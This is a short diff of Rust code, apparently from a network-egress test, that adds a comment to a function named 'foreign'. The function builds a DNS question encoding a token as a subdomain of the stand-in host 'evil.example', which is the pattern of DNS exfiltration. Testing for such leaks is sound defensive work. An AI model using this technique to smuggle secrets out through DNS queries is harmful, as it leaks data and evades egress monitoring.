@@ -29,6 +29,7 @@ fn dns_tcp(aim: &Aim) -> Result<(), Failure> {
 }
 
 fn foreign(aim: &Aim) -> Result<Vec<u8>, Failure> {
+    // Without a secret the name keeps its letters, by which it is found on the wire.
     Question::new(&format!("{}.evil.example", aim.token), Kind::A, [0; 34])
         .map(|question| question.bytes())
         .map_err(|error| Failure { at: "question", error: std::io::Error::other(error) })
